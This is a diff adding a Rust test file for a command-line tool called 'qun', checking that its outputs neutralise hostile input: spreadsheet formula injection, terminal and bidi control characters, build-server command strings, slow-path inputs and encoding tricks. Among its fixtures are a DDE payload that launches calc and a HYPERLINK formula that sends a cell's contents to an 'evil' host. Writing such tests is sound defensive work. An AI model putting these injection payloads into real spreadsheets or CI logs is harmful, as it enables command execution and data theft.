@@ -1,0 +1,307 @@
+//! Input that means harm, or that somebody's program made badly: it costs no more
+//! than its size, and does nothing on a screen, in a spreadsheet or to a build server.
+
+use super::door::{folder, qun};
+use super::{input, lines, taken, toy};
+use assert_cmd::Command;
+use qun::batch::Batch;
+use qun::batch::options::Options;
+use qun::batch::run::{Failure, run};
+use qun::batch::source::{Feed, Form, Opened};
+use qun::diagnostic::Files;
+use qun::kb::KnowledgeBase;
+use std::fs;
+use std::time::{Duration, Instant};
+
+/// The cells of a spreadsheet program's file; the last one is a line of its own.
+fn cells(text: &str) -> Vec<Vec<String>> {
+    let mut rows = vec![vec![String::new()]];
+    let (mut quoted, mut chars) = (false, text.chars().peekable());
+    while let Some(c) = chars.next() {
+        let row = rows.last_mut().expect("there is one");
+        match c {
+            '"' if quoted && chars.peek() == Some(&'"') => row.last_mut().expect("a cell").push(chars.next().expect("seen")),
+            '"' => quoted = !quoted,
+            ',' if !quoted => row.push(String::new()),
+            '\r' if !quoted => {}
+            '\n' if !quoted => rows.push(vec![String::new()]),
+            c => row.last_mut().expect("a cell").push(c),
+        }
+    }
+    rows
+}
+
+#[test]
+fn no_cell_is_a_formula_and_none_forges_another() {
+    let kb = toy();
+    let evil = [
+        "=x,=cmd|' /C calc'!A0",
+        "-1\n=HYPERLINK(\"http://evil/\"&B1),x",
+        "+1+1",
+        "@SUM(A1)",
+        "\t=1",
+        "\r=1",
+        "\n=1",
+        "＝1+1",
+        "＋1",
+        "－1-1",
+        "＠A",
+        " =1",
+        "-inf",
+        "=\"a\",=\"b\"",
+        "-5-5",
+        "\u{FEFF}=1",
+    ];
+    let batch = Batch::new(&kb, Options::default()).table(true, false);
+    let rows: String = evil.iter().map(|id| serde_json::json!({ "id": id }).to_string() + "\n").collect();
+    let (found, _, _) = taken(&batch, rows.as_bytes(), Some(Form::Lines));
+    let found = cells(&found.text);
+    assert_eq!(found.len(), evil.len() + 2);
+    for (row, id) in found[1..].iter().zip(evil) {
+        assert_eq!((row.len(), row[0].as_str()), (found[0].len(), format!("'{id}").as_str()));
+    }
+    // A plain number is no formula.
+    let (found, _, _) = taken(&batch, b"{\"id\":\"-5.5\"}\n{\"id\":\"+1e3\"}\n", Some(Form::Lines));
+    assert_eq!(cells(&found.text)[1..3].iter().map(|row| row[0].as_str()).collect::<Vec<_>>(), ["-5.5", "+1e3"]);
+}
+
+#[test]
+fn the_heads_of_a_table_stay_apart() {
+    let kb = toy();
+    let batch = Batch::new(&kb, Options { ignore_unknown: true, ..Options::default() }).table(false, false);
+    let (found, _, _) = taken(&batch, b"id,row,kind,pet\na,x,y,cat\n", Some(Form::Csv));
+    let rows = cells(&found.text);
+    let unique: std::collections::BTreeSet<_> = rows[0].iter().collect();
+    assert_eq!(unique.len(), rows[0].len(), "{:?}", rows[0]);
+    assert!(rows[0].contains(&"qun-row".to_owned()) && rows[0].contains(&"qun-kind".to_owned()));
+}
+
+/// How long it takes, at best of three.
+fn time(mut what: impl FnMut()) -> Duration {
+    let once = |(): ()| {
+        let begin = Instant::now();
+        what();
+        begin.elapsed()
+    };
+    [(); 3].map(once).into_iter().min().expect("three")
+}
+
+#[test]
+fn more_faults_take_as_much_longer_as_there_are_more() {
+    let kb = toy();
+    let keys = |n: usize| format!("{{{}}}", (0..n).map(|at| format!("\"hz{at}\":1")).collect::<Vec<_>>().join(","));
+    let options = |n: usize| format!("{{\"toys\":[{}]}}", (0..n).map(|at| format!("\"hz{at}\"")).collect::<Vec<_>>().join(","));
+    let batch = Batch::new(&kb, Options::default());
+    let judge = |text: &str| assert_eq!(taken(&batch, text.as_bytes(), Some(Form::Lines)).0.rejects.len(), 1);
+    let read = |text: &str| assert!(qun::profile::read(&kb.facts, "p.json", text.as_bytes(), &mut Files::default()).is_err());
+    for text in [keys as fn(usize) -> String, options] {
+        let (few, many) = (text(1_000), text(30_000));
+        for (what, took) in [("batch", &judge as &dyn Fn(&str)), ("profile", &read)] {
+            let (short, long) = (time(|| took(&few)), time(|| took(&many)));
+            // Nine hundred times, if it grew by the square; a busy machine is no clock.
+            assert!(long < short * 200, "{what}: {short:?}, then {long:?}");
+        }
+    }
+}
+
+#[test]
+fn many_places_are_found_as_fast_as_few() {
+    let place = |files: &Files, file, at| files.line_column(&qun::diagnostic::Place { file, span: at..at });
+    let mut files = Files::default();
+    let text = "群\u{10000}a\n".repeat(3) + &"é".repeat(400_000);
+    let file = files.add("one", text.as_str());
+    assert_eq!((place(&files, file, 0), place(&files, file, 7), place(&files, file, 9)), ((1, 1), (1, 3), (2, 1)));
+    assert_eq!(place(&files, file, text.len()), (4, 400_001));
+    let begin = Instant::now();
+    (0..20_000).for_each(|at| assert_eq!(place(&files, file, 27 + at * 40).1, at * 20 + 1));
+    assert!(begin.elapsed() < Duration::from_secs(20), "{:?}", begin.elapsed());
+}
+
+#[test]
+fn a_long_name_costs_no_more_than_it_is_long() {
+    let kb = toy();
+    let text = format!("{{\"{}\":1,\"pet\":\"{}\"}}", "x".repeat(900_000), "y".repeat(900_000));
+    let begin = Instant::now();
+    assert_eq!(lines(&kb, &Options::default(), &text).rejects.len(), 1);
+    assert!(begin.elapsed() < Duration::from_secs(20), "{:?}", begin.elapsed());
+}
+
+#[test]
+fn names_are_found_as_they_are_one_by_one() {
+    for kb in [toy(), KnowledgeBase::embedded()] {
+        let names = qun::profile::names::Names::new(&kb.facts);
+        let written = |name: &str| {
+            [name.to_owned(), format!(" {name}　"), name.replace('a', "ａ"), name.to_uppercase(), format!("{name}x")]
+        };
+        for (number, fact) in kb.facts.iter().enumerate() {
+            for name in [&fact.id, &fact.label.zh, &fact.label.en].into_iter().flat_map(|name| written(name)) {
+                assert_eq!(names.fact(&name), qun::fact::find(&kb.facts, &name), "{name}");
+            }
+            for name in fact.spellings().flat_map(written) {
+                assert_eq!(names.option(number, &name), fact.option(&name), "{name}");
+            }
+        }
+    }
+}
+
+/// The ids that a table has, its bad rows by line and column, and what was said of its encoding.
+fn table(text: &[u8]) -> (Vec<String>, Vec<(u64, u64)>, Vec<Opened>) {
+    struct Heard(super::Taken, Vec<Opened>);
+    impl qun::batch::run::Sink for Heard {
+        fn take(&mut self, lines: &[u8], rejects: &[qun::batch::complete::Reject], rows: u64, bytes: u64) -> std::io::Result<()> {
+            self.0.take(lines, rejects, rows, bytes)
+        }
+        fn hear(&mut self, opened: Opened) {
+            self.1.push(opened);
+        }
+    }
+    let kb = toy();
+    let batch = Batch::new(&kb, Options::default());
+    let mut sink = Heard(super::Taken::default(), Vec::new());
+    let (_, end) = run(&batch, Feed::new(vec![input(text, Some(Form::Csv))], 1 << 20), &mut sink, &false.into());
+    end.expect("it can be read");
+    let id = |line: &str| serde_json::from_str::<serde_json::Value>(line).expect("JSON")["id"].as_str().unwrap_or("").to_owned();
+    let ids = sink.0.text.lines().map(id).collect();
+    (ids, sink.0.rejects.iter().map(|one| (one.faults[0].line, one.faults[0].column)).collect(), sink.1)
+}
+
+#[test]
+fn an_encoding_is_guessed_only_if_it_looks_like_it_and_never_in_silence() {
+    // UTF-8 with a stray byte of Latin-1; Latin-1 alone.
+    assert_eq!(table(b"id,pet\ncaf\xc3\xa9,cat\nna\xefve x,cat\n"), (vec!["café".to_owned()], vec![(3, 1)], Vec::new()));
+    assert_eq!(table(b"id,pet\nna\xefve,cat\nb,dog\n"), (vec!["b".to_owned()], vec![(2, 1)], Vec::new()));
+    let text = "id,pet\n社群一号,cat\n";
+    let gbk = encoding_rs::GB18030.encode(text).0.into_owned();
+    let guessed = Opened { file: 0, encoding: encoding_rs::GB18030, is_marked: false };
+    assert_eq!(table(&gbk), (vec!["社群一号".to_owned()], Vec::new(), vec![guessed]));
+    let wide: Vec<u8> = text.encode_utf16().flat_map(u16::to_le_bytes).collect();
+    let guessed = Opened { encoding: encoding_rs::UTF_16LE, ..guessed };
+    assert_eq!(table(&wide), (vec!["社群一号".to_owned()], Vec::new(), vec![guessed]));
+    let marked = [b"\xFF\xFE", &wide[..]].concat();
+    assert_eq!(table(&marked).2, [Opened { is_marked: true, ..guessed }]);
+    assert_eq!(table(text.as_bytes()).2, []);
+}
+
+#[test]
+fn json_in_utf_16_is_named() {
+    let kb = toy();
+    let batch = Batch::new(&kb, Options::default());
+    let wide: Vec<u8> = "{\"pet\":\"cat\"}\n".encode_utf16().flat_map(u16::to_be_bytes).collect();
+    let feed = Feed::new(vec![input(&wide, Some(Form::Lines))], 1 << 20);
+    let (_, end) = run(&batch, feed, &mut super::Taken::default(), &false.into());
+    assert!(matches!(end, Err(Failure::Encoding(0, other)) if other.0 == encoding_rs::UTF_16BE), "{end:?}");
+    let marked = [b"\xFE\xFF", &wide[..]].concat();
+    qun().write_stdin(marked.clone()).args(["--input-format", "jsonl"]).assert().code(2);
+    let mut advise = Command::cargo_bin("qun").expect("built");
+    let output = advise.args(["--lang", "en", "--kb", "tests/toy", "advise", "-"]).write_stdin(marked).output().expect("it runs");
+    assert!(String::from_utf8_lossy(&output.stderr).contains("UTF-16"), "{}", String::from_utf8_lossy(&output.stderr));
+}
+
+#[test]
+fn json_escapes_what_a_screen_or_a_build_server_would_obey() {
+    let kb = toy();
+    let ids = ["a\u{9b}2J", "b\u{202e}x", "c\u{7f}", "d\u{2028}", "e\u{e0041}", "##[group]x", "群 plain"];
+    let rows: String = ids.iter().map(|id| serde_json::json!({ "id": id }).to_string() + "\n").collect();
+    for fast in [true, false] {
+        let found = lines(&kb, &Options { fast, ..Options::default() }, &rows);
+        assert!(!found.text.contains(qun::text::is_treacherous) && !found.text.contains("##["), "{}", found.text);
+        let read = found.text.lines().map(|line| serde_json::from_str::<serde_json::Value>(line).expect("JSON")["id"].clone());
+        assert_eq!(read.collect::<Vec<_>>(), ids);
+    }
+    // On a screen a table has stand-ins.
+    let seen = Batch::new(&kb, Options::default()).table(false, true);
+    let (found, _, _) = taken(&seen, b"{\"id\":\"a\\u001b[2J\"}\n", Some(Form::Lines));
+    assert!(found.text.contains("\na?[2J,1,"), "{}", found.text);
+}
+
+#[test]
+fn a_line_of_the_whole_judgement_says_what_the_judgement_says() {
+    for kb in [toy(), KnowledgeBase::embedded()] {
+        let adviser = qun::advice::Adviser::new(&kb);
+        let lines = qun::report::lines::Lines::new(&kb);
+        let mut runner = proptest::test_runner::TestRunner::deterministic();
+        for row in 1..30_u64 {
+            use proptest::strategy::{Strategy, ValueTree};
+            let answers = super::answers(&kb).new_tree(&mut runner).expect("nothing is filtered").current();
+            let id = Some("\"evidence\":[] \u{9b}".to_owned());
+            let profile = qun::profile::Profile { id, name: None, answers };
+            let advice = adviser.advise(&profile.answers);
+            let mut wanted = qun::report::json::judgement(&kb, &profile, &advice);
+            wanted["row"] = row.into();
+            let mut found = String::new();
+            lines.put(&profile, &advice, row, &mut found);
+            assert_eq!(found, qun::text::harmless_json(&wanted.to_string()));
+        }
+    }
+}
+
+fn plain(args: &[&str]) -> Command {
+    let mut command = Command::cargo_bin("qun").expect("built");
+    command.args(["--lang", "en", "--kb", "tests/toy"]).args(args);
+    command
+}
+
+#[test]
+fn a_name_is_no_command_of_a_build_server() {
+    for name in ["::stop-commands::x", "##[add-mask]x", " ::debug::x"] {
+        let profile = serde_json::json!({ "name": name, "pet": "cat" }).to_string();
+        for format in ["terminal", "text", "markdown", "json"] {
+            let output = plain(&["advise", "-", "--format", format]).write_stdin(profile.clone()).output().expect("it runs");
+            let text = String::from_utf8(output.stdout).expect("UTF-8");
+            let is_command = |line: &str| line.trim_start().starts_with("::") || line.contains("##[");
+            assert!(!text.lines().any(is_command), "{format}: {text}");
+        }
+    }
+}
+
+#[test]
+fn only_sources_become_links() {
+    use qun::report::page::{Block, Page};
+    let line = || vec!["a <https://example.org/>".to_owned()];
+    let of = |block| qun::report::markdown::render(&Page { screen: vec![block], sections: Vec::new() }, qun::text::Lang::En);
+    assert!(of(Block::Sources(line())).contains(" <https://"));
+    assert!(!of(Block::Points(line())).contains(" <https://"));
+}
+
+#[test]
+fn what_ask_saves_is_in_the_format_of_its_name() {
+    let folder = folder();
+    let path = folder.path().join("p.json");
+    let profile =
+        "{ \"id\": \"a\", \"name\": \"b \\\"c\\\"\", \"pet\": \"cat\", \"toys\": [\"ball\"], \"size\": 4.5, \"walks\": \"?\" }";
+    fs::write(&path, profile).expect("written");
+    let name = path.display().to_string();
+    plain(&["ask", "--plain", "--from", &name, "--save", &name]).write_stdin("").assert().success();
+    let read = |text: &str| -> serde_json::Value { serde_json::from_str(text).expect("JSON") };
+    assert_eq!(read(&fs::read_to_string(&path).expect("there")), read(profile));
+    plain(&["advise", &name]).assert().success();
+    plain(&["advise", &name, "--output", &name]).assert().code(2);
+    plain(&["ask", "--plain", "--from", &name, "--output", &name]).write_stdin("").assert().code(2);
+    assert_eq!(read(&fs::read_to_string(&path).expect("there")), read(profile));
+}
+
+#[test]
+fn a_limit_that_is_passed_is_named() {
+    let said = |args: &[&str]| {
+        let output = plain(args).write_stdin("{}").output().expect("it runs");
+        (output.status.code(), String::from_utf8_lossy(&output.stderr).into_owned())
+    };
+    let (code, text) = said(&["batch", "--jobs", "1000"]);
+    assert!(code == Some(2) && text.contains("1 to 256"), "{text}");
+    let (code, text) = said(&["batch", "--max-errors", "0"]);
+    assert!(code == Some(2) && text.contains("at least 1"), "{text}");
+    let digits = lines(&toy(), &Options::default(), &format!("{{\"size\":1.{}}}", "0".repeat(40)));
+    let fault = &digits.rejects[0].faults[0].diagnostic;
+    assert_eq!((fault.name, fault.particular("limit")), ("number-too-long", "40"));
+}
+
+#[cfg(target_os = "linux")]
+#[test]
+fn help_that_nobody_can_read_is_an_error_with_a_message() {
+    for args in ["--help", "--version", "batch --help"] {
+        let script = format!("{} --lang en {args} > /dev/full", env!("CARGO_BIN_EXE_qun"));
+        let output = std::process::Command::new("sh").args(["-c", &script]).output().expect("there is a shell");
+        assert_eq!(output.status.code(), Some(2));
+        assert!(String::from_utf8_lossy(&output.stderr).contains("cannot write stdout"));
+    }
+}
